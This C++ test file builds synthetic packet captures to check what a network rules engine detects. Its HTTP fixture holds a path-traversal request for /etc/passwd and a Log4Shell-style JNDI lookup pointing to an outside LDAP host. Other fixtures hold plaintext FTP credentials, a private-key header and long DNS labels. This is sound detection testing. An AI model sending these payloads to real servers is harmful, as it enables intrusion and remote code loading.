// What rules find: runs with conf/rules.yaml.
#include "pcaps/catalogue.h"

namespace linger::test {
namespace {

using namespace std::string_literals;

constexpr std::string_view kRequest =
    "GET /a/%2E%2e%2fetc/passwd HTTP/1.1\r\nHost: www.example.com\r\n"
    "Authorization: Basic Ym9iOnNlY3JldA==\r\nUser-Agent: ${jndi:ldap://198.51.100.9/a}\r\n\r\n";
const std::string kResponse = "HTTP/1.1 200 OK\r\nContent-Length: 87\r\n\r\nMZ"s +
                              std::string(58, '\0') + "\xf0\0\0\0"s + "in DOS mode.\n$"s +
                              "\0\0\0"s + "PE\0\0"s + "the rest"s;

TcpPeers peers(Frames& frames, std::uint16_t number, std::uint16_t port) {
  return {
      frames, {"192.0.2.7", static_cast<std::uint16_t>(40'000 + number)}, {"198.51.100.80", port}};
}

// In segments of at most `piece` bytes.
void say(TcpPeers& tcp, Side side, std::string_view text, std::size_t piece, std::int64_t time) {
  for (std::size_t from = 0; from < text.size(); from += piece)
    tcp.data(side, text.substr(from, piece), time);
}

void add_http(Frames& frames, std::uint16_t number, std::size_t piece, std::int64_t time) {
  TcpPeers tcp = peers(frames, number, 80);
  tcp.handshake(time);
  say(tcp, Side::client, kRequest, piece, time + 10 * kMillisecond);
  say(tcp, Side::server, kResponse, piece, time + 20 * kMillisecond);
  tcp.close(Side::client, time + 30 * kMillisecond);
}

// A login on a port that a rule is for, or not.
void add_login(Frames& frames, std::uint16_t number, std::uint16_t port, std::int64_t time) {
  TcpPeers tcp = peers(frames, number, port);
  tcp.handshake(time);
  say(tcp, Side::server, "220 FTP ready\r\n", 1'400, time + 10 * kMillisecond);
  say(tcp, Side::client, "USER bob\r\nPASS secret\r\n", 13, time + 20 * kMillisecond);
  tcp.close(Side::client, time + 30 * kMillisecond);
}

// Of a key's first line the capture missed a part; it saw all of the one behind.
void add_gap(Frames& frames, std::uint16_t number, std::string_view behind, std::int64_t time) {
  TcpPeers tcp = peers(frames, number, 9'000);
  tcp.handshake(time);
  tcp.data(Side::client, "-----BEGIN ", time + kMillisecond);
  tcp.data(Side::client, "RSA ", time + kMillisecond, {.captured = false});
  tcp.data(Side::client, "PRIVATE KEY-----\n", time + kMillisecond);
  tcp.ack(Side::server, time + 10 * kMillisecond);
  tcp.data(Side::client, behind, time + 20 * kMillisecond);
  tcp.close(Side::client, time + 30 * kMillisecond);
}

Frame dns_query(std::string_view label, std::int64_t time) {
  std::string name;
  for (int i = 0; i < 3; ++i) name += static_cast<char>(label.size()) + std::string(label);
  PacketBuilder builder;
  builder.ethernet().ip("192.0.2.7", "198.51.100.53").udp(40'000, 53);
  return builder.payload("ab\1\0\0\1\0\0\0\0\0\0"s + name + "\0\0\1\0\1"s).frame(time);
}

}  // namespace

void add_rule_captures(Catalogue& catalogue) {
  Frames frames;
  add_http(frames, 1, 1'400, at(0));
  add_http(frames, 2, 7, at(kSecond));
  add_login(frames, 3, 21, at(2 * kSecond));
  add_login(frames, 4, 2'121, at(3 * kSecond));
  add_gap(frames, 5, "nothing", at(4 * kSecond));
  add_gap(frames, 6, "-----BEGIN PRIVATE KEY-----\n", at(5 * kSecond));
  frames.push_back(dns_query(std::string(63, 'a'), at(6 * kSecond)));
  const Expected expected{.settings = "rules=conf/rules.yaml"};
  catalogue.capture(
      "rules", "what matches is told, whole or in pieces; not across a gap, nor for other ports",
      frames, expected);
  catalogue.run("rules_alone", "without parsers rules for a protocol match nothing", {"rules.pcap"},
                {.settings = "rules=conf/rules.yaml parsers=none"});
  catalogue.run("rules_dry", "with one stream a thread the other side is scanned in pieces",
                {"rules.pcap"},
                {.settings = "rules=conf/rules.yaml ruleStreams=1", .hits_limit = true});
}

}  // namespace linger::test
